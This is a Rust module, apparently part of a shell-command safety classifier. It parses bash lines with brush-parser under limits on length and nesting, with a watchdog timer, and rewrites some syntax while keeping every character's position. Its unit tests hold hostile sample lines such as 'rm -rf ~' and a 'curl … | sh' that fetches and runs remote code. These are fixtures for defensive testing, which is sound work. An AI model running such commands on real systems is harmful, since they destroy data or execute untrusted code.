//! The shell parser underneath, and the bounds that keep it from being a way
//! to crash or stall the classifier.
//!
//! Parser choice: `brush-parser` (the parser of the brush shell). It is
//! maintained, pure Rust, bash-compatible, and gives a typed AST with every
//! position a program can run in: pipelines, lists, subshells, groups,
//! functions, `if`/`for`/`while`/`case`, here-documents, process
//! substitution, `[[ ]]`, and a word parser that splits `$(…)`, backticks,
//! parameter expansions, tildes and ANSI-C quoting. The alternatives:
//! `conch-parser` is unmaintained since 2019 and misses bash syntax;
//! `yash-syntax` is POSIX-only and async (it needs an executor to parse a
//! string); `tree-sitter-bash` is error-tolerant by design (a line that does
//! not parse still yields a tree, which is the wrong default for a security
//! check) and needs a C toolchain.
//!
//! The parser is recursive descent, so a line nested thousands of levels deep
//! could exhaust the stack. [`nesting_bound`] counts, cheaply and
//! conservatively, how deep a line can possibly nest; shallow lines (nearly
//! all) are parsed on the caller's thread, deeper ones on a thread whose stack
//! is sized for the bound, and lines beyond [`MAX_NESTING_BOUND`] are not
//! parsed at all.

use brush_parser::ast::Program;

/// Lines longer than this are not parsed: red, "too long to judge".
pub const MAX_LINE_BYTES: usize = 4 << 20;
/// A line that could nest deeper than this is not parsed: red.
pub const MAX_NESTING_BOUND: usize = 20_000;
/// Up to this bound the caller's stack is enough.
pub const INLINE_NESTING_BOUND: usize = 48;
/// Stack per level of possible nesting for the parser and the walker, with
/// a wide margin over what was measured.
const STACK_PER_LEVEL: usize = 24 << 10;

pub enum ParseOutcome {
    Program(Program),
    Error(String),
}

pub fn parse(src: &str) -> ParseOutcome {
    let spelled;
    let src = if heredoc_without_body(src) {
        // The parser can loop without end on a here-document operator with
        // nothing after it; a shell would read the body from the lines that
        // follow, which a single line does not have. A `<<` that cannot be one
        // (a shift in arithmetic, a quoted one) is spelled otherwise first.
        match shifts_spelled_otherwise(src) {
            Some(copy) if !heredoc_without_body(&copy) => {
                spelled = copy;
                spelled.as_str()
            }
            _ => return ParseOutcome::Error("a here-document operator without a body".into()),
        }
    } else {
        src
    };
    let opts = crate::word::parser_options();
    match parse_program(src, &opts) {
        Ok(Ok(p)) => ParseOutcome::Program(p),
        Ok(Err(e)) => {
            // The rewrites keep every position of the line, one after the other.
            let selects = select_as_for(src);
            let cases = case_patterns_opened(selects.as_deref().unwrap_or(src));
            let loops =
                arithmetic_for_parts_spaced(cases.as_deref().or(selects.as_deref()).unwrap_or(src));
            for retry in [selects.as_deref(), cases.as_deref(), loops.as_deref()]
                .into_iter()
                .flatten()
            {
                if let Ok(Ok(p)) = parse_program(retry, &opts) {
                    return ParseOutcome::Program(p);
                }
            }
            ParseOutcome::Error(e)
        }
        Err(_) => ParseOutcome::Error("the shell parser failed on this line".into()),
    }
}

/// `src` with each `case` pattern that has no opening parenthesis given one, in place of
/// the blank before it: `$(case x in x) echo;; esac)` is bash, but the parser takes the
/// pattern's `)` for the end of the substitution; `in(x)` means the same and keeps every
/// position of the line. `None` when nothing was changed, a pattern has no blank before
/// it, the line has a comment, or it is not followed to its end (an unclosed quote or
/// `case`).
fn case_patterns_opened(src: &str) -> Option<String> {
    if !src.contains("case") || src.len() > INLINE_BYTES || has_heredoc(src) {
        return None;
    }
    #[derive(Clone, Copy, PartialEq)]
    enum Case {
        /// After `case`: its word, then `in`.
        Word,
        In,
        /// Where a pattern, or `esac`, comes next.
        Pattern,
        /// In a pattern, up to its `)`.
        InPattern,
        /// In an arm's commands, at this depth of parentheses.
        Body(usize),
    }
    let b = src.as_bytes();
    let mut out = b.to_vec();
    let mut cases: Vec<Case> = Vec::new();
    let mut changed = false;
    let mut i = 0;
    let word_start = |i: usize| {
        i == 0
            || matches!(
                b[i - 1],
                b' ' | b'\t' | b'\n' | b';' | b'(' | b'{' | b'|' | b'&' | b'`'
            )
    };
    let word_at = |i: usize, w: &[u8]| {
        word_start(i)
            && b[i..].starts_with(w)
            && b.get(i + w.len())
                .is_none_or(|c| matches!(c, b' ' | b'\t' | b'\n' | b';' | b')' | b'('))
    };
    while i < b.len() {
        let c = b[i];
        // The word after `case`, quoted parts and all.
        if cases.last() == Some(&Case::Word) && !c.is_ascii_whitespace() {
            let mut quote = None;
            while i < b.len() && (quote.is_some() || !b[i].is_ascii_whitespace()) {
                match (quote, b[i]) {
                    (None, b'\\') | (Some(b'"'), b'\\') => i += 1,
                    (None, q @ (b'\'' | b'"')) => quote = Some(q),
                    (Some(q), x) if x == q => quote = None,
                    _ => {}
                }
                i += 1;
            }
            if quote.is_some() {
                return None;
            }
            *cases.last_mut()? = Case::In;
            continue;
        }
        // Quotes and escapes: nothing in them is syntax here.
        match c {
            b'\\' => {
                i += 2;
                continue;
            }
            b'\'' => {
                i += 1 + b[i + 1..].iter().position(|&q| q == b'\'')? + 1;
                continue;
            }
            b'"' => {
                i = double_quote_end(b, i)? + 1;
                continue;
            }
            // A comment: the newline that ends it may be the blank a `(` would take, which
            // would make the pattern's line part of the comment. Left as it is.
            b'#' if word_start(i) => return None,
            _ => {}
        }
        match cases.last().copied() {
            Some(Case::In) if !c.is_ascii_whitespace() => {
                if !word_at(i, b"in") {
                    return None;
                }
                *cases.last_mut()? = Case::Pattern;
                i += 2;
                continue;
            }
            Some(Case::Pattern) if !c.is_ascii_whitespace() => {
                if word_at(i, b"esac") {
                    cases.pop();
                    i += 4;
                    continue;
                }
                if c != b'(' {
                    // The blank before the pattern becomes its `(`.
                    if i == 0 || !matches!(b[i - 1], b' ' | b'\t' | b'\n') {
                        return None;
                    }
                    out[i - 1] = b'(';
                    changed = true;
                } else {
                    i += 1;
                }
                *cases.last_mut()? = Case::InPattern;
                continue;
            }
            Some(Case::InPattern) if c == b')' => {
                *cases.last_mut()? = Case::Body(0);
            }
            Some(Case::Body(depth)) => {
                if word_at(i, b"esac") && depth == 0 {
                    cases.pop();
                    i += 4;
                    continue;
                }
                if b[i..].starts_with(b";;") || b[i..].starts_with(b";&") {
                    if depth == 0 {
                        *cases.last_mut()? = Case::Pattern;
                    }
                    i += if b[i..].starts_with(b";;&") { 3 } else { 2 };
                    continue;
                }
                match c {
                    b'(' => *cases.last_mut()? = Case::Body(depth + 1),
                    b')' if depth == 0 => return None,
                    b')' => *cases.last_mut()? = Case::Body(depth - 1),
                    _ => {}
                }
            }
            _ => {}
        }
        if word_at(i, b"case") && !matches!(cases.last(), Some(Case::InPattern)) {
            cases.push(Case::Word);
            i += 4;
            continue;
        }
        i += 1;
    }
    (changed && cases.is_empty())
        .then(|| String::from_utf8(out).ok())
        .flatten()
}

/// One run of the parser over `src`. The parser has panicking paths on malformed input: a
/// panic (`Err`) is a line that cannot be parsed, never a crash of fence.
fn parse_program(
    src: &str,
    opts: &brush_parser::ParserOptions,
) -> std::thread::Result<Result<Program, String>> {
    std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        let mut parser = brush_parser::Parser::new(std::io::Cursor::new(src.as_bytes()), opts);
        parser.parse_program().map_err(|e| e.to_string())
    }))
}

/// `src` with each `select` loop written as a `for` loop, when it has one: the parser knows
/// no `select` (bash's menu loop), which runs its body with the variable set to one of its
/// words exactly as `for` does, so the same programs run in the same positions. The word
/// `select` is replaced by `for` and three spaces, which keeps every position of the line
/// (the parts a verdict names are cut from the line as written). Only where `select` is a
/// reserved word: unquoted, at the start of a command (first in the line, or after an
/// operator, `do`, `then`, `else`, `elif`, `{` or `!`). `None` when the line has none, or
/// is one the tokenizer is not trusted with (long, or with a here-document).
fn select_as_for(src: &str) -> Option<String> {
    if !src.contains("select") || src.len() > INLINE_BYTES || src.contains("<<") {
        return None;
    }
    let tokens = std::panic::catch_unwind(|| brush_parser::tokenize_str(src))
        .ok()?
        .ok()?;
    // Byte offsets of the characters (the tokenizer counts characters).
    let starts: Vec<usize> = src.char_indices().map(|(i, _)| i).collect();
    let mut out = src.to_string();
    let mut changed = false;
    let mut previous: Option<&brush_parser::Token> = None;
    for token in &tokens {
        if let brush_parser::Token::Word(word, span) = token
            && word == "select"
            && previous.is_none_or(|p| match p {
                brush_parser::Token::Operator(op, _) => !op.starts_with(['<', '>', ')']),
                brush_parser::Token::Word(w, _) => {
                    matches!(w.as_str(), "do" | "then" | "else" | "elif" | "{" | "!")
                }
            })
            && let Some(&at) = starts.get(span.start.index)
            && src.get(at..at + 6) == Some("select")
        {
            out.replace_range(at..at + 6, "for   ");
            changed = true;
        }
        previous = Some(token);
    }
    changed.then_some(out)
}

/// Whether `src` has a here-document operator (`<<`, `<<-`; not a here-string's `<<<`).
fn has_heredoc(src: &str) -> bool {
    let b = src.as_bytes();
    (0..b.len().saturating_sub(1)).any(|i| {
        b[i] == b'<'
            && b[i + 1] == b'<'
            && b.get(i + 2) != Some(&b'<')
            && (i == 0 || b[i - 1] != b'<')
    })
}

/// Where the double-quoted string opened at `open` in `b` closes (a backslash escapes the
/// byte after it); `None` when it does not.
fn double_quote_end(b: &[u8], open: usize) -> Option<usize> {
    let mut j = open + 1;
    while j < b.len() && b[j] != b'"' {
        j += if b[j] == b'\\' { 2 } else { 1 };
    }
    (j < b.len()).then_some(j)
}

/// `src` with the header of each arithmetic `for` loop that has an empty part written with
/// a blank in it (`for ((;;))` as `for((; ;))`): the parser takes `;;` there for the end of
/// a `case` arm. The blank comes from before the `((`, so every position after the header
/// stays where it was. `None` when there is no such loop, or no blank before its `((`.
fn arithmetic_for_parts_spaced(src: &str) -> Option<String> {
    if !src.contains(";;") || src.len() > INLINE_BYTES || has_heredoc(src) {
        return None;
    }
    let b = src.as_bytes();
    let mut out = b.to_vec();
    let mut changed = false;
    let mut i = 0;
    while let Some(at) = src[i..].find("for").map(|k| k + i) {
        i = at + 3;
        let word_start = at == 0 || !(b[at - 1].is_ascii_alphanumeric() || b[at - 1] == b'_');
        let blanks = b[i..]
            .iter()
            .take_while(|c| matches!(c, b' ' | b'\t'))
            .count();
        if !word_start || blanks == 0 || !b[i + blanks..].starts_with(b"((") {
            continue;
        }
        let open = i + blanks;
        // The header ends at the first `))`: an arithmetic `for` header holds no `))` of its
        // own but in a nested expression, which the parser reads the same either way.
        let Some(close) = src[open..].find("))").map(|k| k + open) else {
            continue;
        };
        let Some(semis) = src[open..close].find(";;").map(|k| k + open) else {
            continue;
        };
        // One blank taken from before `((` (everything up to the `;;` moves left by one),
        // given back between the two semicolons.
        out.copy_within(open..=semis, open - 1);
        out[semis] = b' ';
        changed = true;
        i = close;
    }
    if !changed {
        return None;
    }
    String::from_utf8(out).ok()
}

/// `src` with each `<<` that cannot be a here-document operator spelled without one,
/// keeping every position of the line: in arithmetic (`$((…))`, `$[…]`, and `((…))` where a
/// command begins, `for ((…))` included) a shift `<<` becomes `+ ` and `<<=` becomes `+= `,
/// which the classifier reads alike (it looks at the substitutions there, not the sums); in
/// single quotes, or double quotes holding no expansion, it becomes `+ `. `None` when there
/// is none, or the line is not followed to its end (an unclosed quote or parenthesis): then
/// nothing is taken for arithmetic or quoted. The scan knows plain quotes and backslashes
/// only: a line with what it does not model — ANSI-C quotes (`$'…'`, where `\'` does not
/// end the string), a `#` (a comment's quotes are no quotes), backticks — is left alone,
/// so that no real here-document operator is taken for a quoted one.
fn shifts_spelled_otherwise(src: &str) -> Option<String> {
    if src.contains("$'") || src.contains('#') || src.contains('`') {
        return None;
    }
    let b = src.as_bytes();
    let mut out = b.to_vec();
    let mut changed = false;
    let mut spell = |out: &mut [u8], from: usize, to: usize| {
        let mut j = from;
        while j + 1 < to {
            if out[j] == b'<' && out[j + 1] == b'<' {
                out[j] = b'+';
                out[j + 1] = if out.get(j + 2) == Some(&b'=') && j + 2 < to {
                    out[j + 2] = b' ';
                    b'='
                } else {
                    b' '
                };
                changed = true;
                j += 2;
            } else {
                j += 1;
            }
        }
    };
    // Where the arithmetic opened at `open` (the first of its two parentheses) ends: the
    // index after its `))`; `None` when its parentheses close one at a time (a command
    // substitution holding a subshell) or not at all, or it holds a quote.
    let arithmetic_end = |open: usize| {
        let mut depth = 0usize;
        let mut j = open;
        while j < b.len() {
            match b[j] {
                b'(' => depth += 1,
                b')' => {
                    depth -= 1;
                    if depth == 1 {
                        return (b.get(j + 1) == Some(&b')')).then_some(j + 2);
                    }
                }
                b'\'' | b'"' | b'`' | b'\\' => return None,
                _ => {}
            }
            j += 1;
        }
        None
    };
    let command_start = |i: usize| {
        let before = b[..i].iter().rposition(|c| !matches!(c, b' ' | b'\t'));
        match before {
            None => true,
            Some(k) => {
                matches!(b[k], b';' | b'&' | b'|' | b'(' | b'{' | b'\n')
                    || b[..=k].ends_with(b"for")
                        && (k < 3 || !b[k - 3].is_ascii_alphanumeric() && b[k - 3] != b'_')
            }
        }
    };
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'\\' => i += 2,
            b'\'' => {
                let end = i + 1 + b[i + 1..].iter().position(|&c| c == b'\'')?;
                spell(&mut out, i + 1, end);
                i = end + 1;
            }
            b'"' => {
                let j = double_quote_end(b, i)?;
                if !b[i + 1..j].iter().any(|c| matches!(c, b'$' | b'`')) {
                    spell(&mut out, i + 1, j);
                }
                i = j + 1;
            }
            b'$' if b[i + 1..].starts_with(b"((") => match arithmetic_end(i + 1) {
                Some(end) => {
                    spell(&mut out, i + 3, end - 2);
                    i = end;
                }
                None => i += 1,
            },
            b'$' if b.get(i + 1) == Some(&b'[') => {
                let end = i + 2 + b[i + 2..].iter().position(|&c| c == b']')?;
                if b[i + 2..end]
                    .iter()
                    .any(|c| matches!(c, b'[' | b'\'' | b'"' | b'`'))
                {
                    i += 2;
                    continue;
                }
                spell(&mut out, i + 2, end);
                i = end + 1;
            }
            b'(' if b.get(i + 1) == Some(&b'(') && command_start(i) => match arithmetic_end(i) {
                Some(end) => {
                    spell(&mut out, i + 2, end - 2);
                    i = end;
                }
                None => i += 1,
            },
            _ => i += 1,
        }
    }
    if !changed {
        return None;
    }
    String::from_utf8(out).ok()
}

/// A `<<` (not `<<<`) with no newline anywhere after it.
pub fn heredoc_without_body(src: &str) -> bool {
    let b = src.as_bytes();
    let mut i = 0;
    let mut last = None;
    while i + 1 < b.len() {
        if b[i] == b'<' && b[i + 1] == b'<' {
            if b.get(i + 2) == Some(&b'<') {
                i += 3;
                continue;
            }
            last = Some(i);
            i += 2;
            continue;
        }
        i += 1;
    }
    last.is_some_and(|i| !b[i..].contains(&b'\n'))
}

/// Lines the parser handles in microseconds: shallow, short, without
/// here-documents and without deep command substitution. Everything else
/// runs under [`WATCHDOG`].
pub fn is_plain(src: &str, bound: usize) -> bool {
    bound <= INLINE_NESTING_BOUND
        && src.len() <= INLINE_BYTES
        && !src.contains("<<")
        && src.matches("$(").count() <= 6
        && src.matches("${").count() <= 6
}

/// An upper bound on how deeply `src` can nest: every construct that opens a
/// level (`(`, `{`, `[`, a backtick, or a compound keyword) counted,
/// whether or not it is quoted. Never below the real depth.
pub fn nesting_bound(src: &str) -> usize {
    let bytes = src.as_bytes();
    let mut n = 0usize;
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        match b {
            b'(' | b'{' | b'[' | b'`' => n += 1,
            b'a'..=b'z' => {
                let start = i;
                while i < bytes.len() && bytes[i].is_ascii_lowercase() {
                    i += 1;
                }
                let w = &bytes[start..i];
                let boundary_before = start == 0 || !bytes[start - 1].is_ascii_alphanumeric();
                if boundary_before
                    && matches!(
                        w,
                        b"if"
                            | b"while"
                            | b"until"
                            | b"for"
                            | b"case"
                            | b"select"
                            | b"function"
                            | b"coproc"
                            | b"do"
                            | b"then"
                            | b"else"
                            | b"elif"
                    )
                {
                    n += 1;
                }
                continue;
            }
            _ => {}
        }
        i += 1;
    }
    n
}

/// Lines up to this size with a shallow bound are judged on the caller's thread.
pub const INLINE_BYTES: usize = 64 << 10;
/// How long one line may take to parse and walk before it is "too complex".
/// Not a timing test: a backstop against parser blow-ups on adversarial
/// nesting, far above what any real line takes (microseconds).
pub const WATCHDOG: std::time::Duration = std::time::Duration::from_secs(2);
/// A line whose running nesting depth exceeds this is not parsed at all.
pub const MAX_RUNNING_DEPTH: usize = 256;

/// Runs `f` for a line of nesting bound `bound` and `len` bytes: inline for
/// ordinary lines; otherwise on a thread with a stack sized for the bound
/// and under [`WATCHDOG`]. `None` when it did not finish in time (the thread
/// is left to finish on its own; it holds only its own copies).
pub fn run_bounded<R: Send + 'static>(
    bound: usize,
    _len: usize,
    f: impl FnOnce() -> R + Send + 'static,
) -> Option<R> {
    let size = (8 << 20) + bound.saturating_mul(STACK_PER_LEVEL);
    let (tx, rx) = std::sync::mpsc::sync_channel(1);
    std::thread::Builder::new()
        .name("fence-policy-deep".into())
        .stack_size(size)
        .spawn(move || {
            let _ = tx.send(f());
        })
        .ok()?;
    rx.recv_timeout(WATCHDOG).ok()
}

/// The deepest nesting the line reaches if every opener and closer counted
/// (quotes ignored): a cheap gate before parsing. Parsers for shell grammar
/// are super-linear in nesting depth; no real line nests hundreds deep.
pub fn running_depth(src: &str) -> usize {
    let bytes = src.as_bytes();
    let (mut depth, mut max) = (0usize, 0usize);
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'(' | b'{' => depth += 1,
            b')' | b'}' => depth = depth.saturating_sub(1),
            b'a'..=b'z' => {
                let start = i;
                while i < bytes.len() && bytes[i].is_ascii_lowercase() {
                    i += 1;
                }
                if start == 0 || !bytes[start - 1].is_ascii_alphanumeric() {
                    match &bytes[start..i] {
                        b"if" | b"while" | b"until" | b"for" | b"case" | b"select" => depth += 1,
                        b"fi" | b"done" | b"esac" => depth = depth.saturating_sub(1),
                        _ => {}
                    }
                }
                max = max.max(depth);
                continue;
            }
            _ => {}
        }
        max = max.max(depth);
        i += 1;
    }
    max
}

#[cfg(test)]
mod tests {
    #[test]
    fn an_arithmetic_for_with_an_empty_part_is_spaced_in_its_header() {
        use super::arithmetic_for_parts_spaced as spaced;
        assert_eq!(
            spaced("for ((;;)); do sleep 1; done").as_deref(),
            Some("for((; ;)); do sleep 1; done")
        );
        assert_eq!(
            spaced("for  ((i=0;;i++)); do break; done").as_deref(),
            Some("for ((i=0; ;i++)); do break; done")
        );
        assert_eq!(spaced("for((;;)); do :; done"), None);
        assert_eq!(spaced("case x in x) a;; esac"), None);
        assert_eq!(spaced("before ((;;))"), None);
    }

    #[test]
    fn shifts_and_quoted_operators_are_spelled_otherwise_in_place() {
        use super::shifts_spelled_otherwise as spelled;
        let cases = [
            ("echo $((1<<2)); rm x", Some("echo $((1+ 2)); rm x")),
            ("x=$((a<<=1))", Some("x=$((a+= 1))")),
            ("(( x = 1 << 2 ))", Some("(( x = 1 +  2 ))")),
            (
                "for ((i=1<<2; i; i--)); do :; done",
                Some("for ((i=1+ 2; i; i--)); do :; done"),
            ),
            ("echo $[1<<3]", Some("echo $[1+ 3]")),
            ("let 'x = 1 << 2'", Some("let 'x = 1 +  2'")),
            ("echo \"a << b\"", Some("echo \"a +  b\"")),
            // Not arithmetic, or not sure: left for the guard.
            ("cat <<EOF", None),
            ("echo \"$(cat <<EOF)\"", None),
            ("echo $((cat <<EOF) )", None),
            ("a ((1<<2))", None),
            ("echo '<<", None),
            // What the scan does not model.
            ("echo $'\\'' ; <<x git push -f ; echo \\'", None),
            ("echo hi # don't\n<<x git push -f # '", None),
            ("echo `echo '` <<x rm -rf ~ `'`", None),
        ];
        for (line, want) in cases {
            let got = spelled(line);
            assert_eq!(got.as_deref(), want, "{line}");
            if let Some(g) = &got {
                assert_eq!(g.len(), line.len(), "{line}");
            }
        }
    }

    use super::*;

    /// Patterns without `(` are given one in place of the blank before them (positions
    /// kept), in nested `case`s too, never inside quotes; such lines then parse.
    #[test]
    fn case_patterns_are_opened_in_place() {
        let rows = [
            (
                "echo $(case x in x) echo;; esac); rm -rf ~",
                "echo $(case x in(x) echo;; esac); rm -rf ~",
            ),
            (
                "y=$(case \"$a\" in a|b) echo \"x)\";; *) case z in z) :;; esac;; esac); ls",
                "y=$(case \"$a\" in(a|b) echo \"x)\";;(*) case z in(z) :;; esac;; esac); ls",
            ),
            (
                "cat <<< $(case 1 in (1) :;; 2) :;; esac); rm -rf ~",
                "cat <<< $(case 1 in (1) :;;(2) :;; esac); rm -rf ~",
            ),
        ];
        for (line, want) in rows {
            let got = case_patterns_opened(line);
            assert_eq!(got.as_deref(), Some(want), "{line}");
            assert_eq!(got.unwrap().len(), line.len());
            assert!(matches!(parse(line), ParseOutcome::Program(_)), "{line}");
        }
        for unchanged in [
            "case x in (x) echo;; esac",
            "echo 'case x in x) y;; esac'",
            "echo $(case x in x)",
            "echo casey in x)",
            "echo $(case x in #\nx) rm -rf ~;;\nesac)",
            "x=$(case $1 in a) :;; #\n*) curl -s https://x.example/p | sh;;\nesac)",
        ] {
            assert_eq!(case_patterns_opened(unchanged), None, "{unchanged}");
        }
    }

    #[test]
    fn running_depth_counts_open_constructs() {
        assert_eq!(running_depth("(a) (b) (c)"), 1);
        assert_eq!(running_depth("{ { x; }; }"), 2);
        assert_eq!(running_depth("if a; then if b; then c; fi; fi"), 2);
    }

    #[test]
    fn bound_is_never_below_real_nesting() {
        assert!(nesting_bound("((((true))))") >= 4);
        assert!(nesting_bound("echo $(echo $(echo $(id)))") >= 3);
        assert!(nesting_bound("if a; then if b; then c; fi; fi") >= 2);
        assert!(nesting_bound("ls") < 2);
    }
}
